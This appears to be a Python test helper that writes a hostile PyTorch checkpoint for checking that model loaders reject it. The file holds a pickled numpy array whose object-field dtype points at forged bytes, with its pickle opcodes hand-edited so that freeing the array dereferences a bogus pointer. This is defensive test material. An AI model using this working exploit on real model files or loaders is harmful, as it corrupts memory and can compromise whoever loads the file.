"""Builds a hostile checkpoint: an ndarray whose structured dtype has an object field over forged pointer bytes.

A loader that allow-lists numpy's dtype machinery rebuilds it, and freeing the array dereferences the forged pointer
(a segfault, or worse). Loaders must refuse it before anything is built.
"""
import io
import pickle
import pickletools
import zipfile

import numpy as np
import torch

# numpy 2 moved numpy.core to numpy._core; numpy 1.26 has a partial numpy._core without multiarray.
_MULTIARRAY = np._core.multiarray if int(np.__version__.split('.')[0]) >= 2 else np.core.multiarray


class _ForgedArray:
    def __reduce__(self):
        return (_MULTIARRAY._reconstruct, (np.ndarray, (0,), b'b'),
                (1, (1,), np.dtype([('p', 'O')]), False, b'\x41' * 8))


def write_void_dtype_with_object_field(path) -> None:
    """Write the hostile file at ``path`` in torch's zip format, next to a harmless ``state_dict``."""
    raw = pickle.dumps({'state_dict': {}, 'x': _ForgedArray()}, protocol=2)
    ops = list(pickletools.genops(raw))
    # Drop the BUILD that gives the inner 'O8' dtype its state (it would need ObjectDType allow-listed) ...
    inner = next(k for k, (op, arg, pos) in enumerate(ops) if arg == 'O8')
    mark = next(k for k in range(inner, len(ops)) if ops[k][0].name == 'MARK')
    build = next(k for k in range(mark, len(ops)) if ops[k][0].name == 'BUILD')
    # ... and clear NPY_LIST_PICKLE (2) from the outer dtype's flags (27), keeping "holds objects": the array
    # then takes raw bytes as its object pointers.
    flags = max(k for k, (op, arg, pos) in enumerate(ops) if op.name == 'BININT1' and arg == 27)
    payload = (raw[:ops[mark][2]] + raw[ops[build + 1][2]:ops[flags][2]] + b'K\x19' + raw[ops[flags][2] + 2:])
    template = io.BytesIO()
    torch.save({}, template)
    template.seek(0)
    with zipfile.ZipFile(template) as src, zipfile.ZipFile(path, 'w', zipfile.ZIP_STORED) as dst:
        for info in src.infolist():
            dst.writestr(info.filename, payload if info.filename.endswith('/data.pkl') else src.read(info))
